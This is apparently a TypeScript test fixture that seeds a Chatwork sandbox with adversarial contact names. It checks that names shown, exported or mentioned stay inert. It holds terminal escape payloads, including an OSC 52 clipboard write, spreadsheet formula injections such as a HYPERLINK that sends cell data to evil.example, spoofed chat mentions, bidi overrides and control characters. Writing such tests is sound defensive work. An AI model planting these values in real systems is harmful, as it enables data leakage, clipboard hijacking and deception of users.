import { addAccount, addContact, addGroupRoom } from '../model/people.js';
import type { SandboxState } from '../model/state.js';

/**
 * Names as an adversary would choose them, from outside the company: terminal escapes
 * (window title, colour, OSC 52 clipboard, the one-byte CSI), spreadsheet formulas,
 * Chatwork notation, bidirectional overrides, control characters, and 1,000 characters.
 * What prints them, exports them or mentions them must stay inert.
 */
export const HOSTILE_NAMES: readonly string[] = [
  '\x1b]0;pwned\x07山田 悪太',
  '\x1b[31m赤字 太郎\x1b[0m',
  '\x1b]52;c;ZWNobyBwd25lZA==\x07クリップ 花子',
  '\x9b2J画面 消去',
  '=HYPERLINK("https://evil.example/?d="&A1,"請求書")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+2',
  '\r=1+2',
  "'=already quoted",
  '[toall]全員 宛',
  '[To:1000001]偽 メンション',
  '[/info][info][title]偽の通知[/title]',
  '\u202e逆順 表示\u202c',
  '\u2067隔離 表示\u2069',
  '改行\n入り 氏名',
  'NUL\u0000入り',
  '長'.repeat(1000),
];

export const HOSTILE_FIRST_ACCOUNT = 4_000_001;

/** On top of the demo seed: one contact per hostile name, with a hostile department, and a room named like them. */
export function addHostileContacts(state: SandboxState): void {
  const members: [number, 'member'][] = [];
  HOSTILE_NAMES.forEach((name, index) => {
    const accountId = HOSTILE_FIRST_ACCOUNT + index;
    addAccount(state, {
      account_id: accountId, name, chatwork_id: `hostile_${index + 1}`,
      organization_id: 9_900, organization_name: '=外部 "取引先"', department: HOSTILE_NAMES[(index + 5) % HOSTILE_NAMES.length]!,
    });
    addContact(state, state.operatorId, accountId);
    members.push([accountId, 'member']);
  });
  addGroupRoom(state, '\x1b]0;room\x07=ROOM()', [[state.operatorId, 'admin'], ...members], '\u202e説明');
}
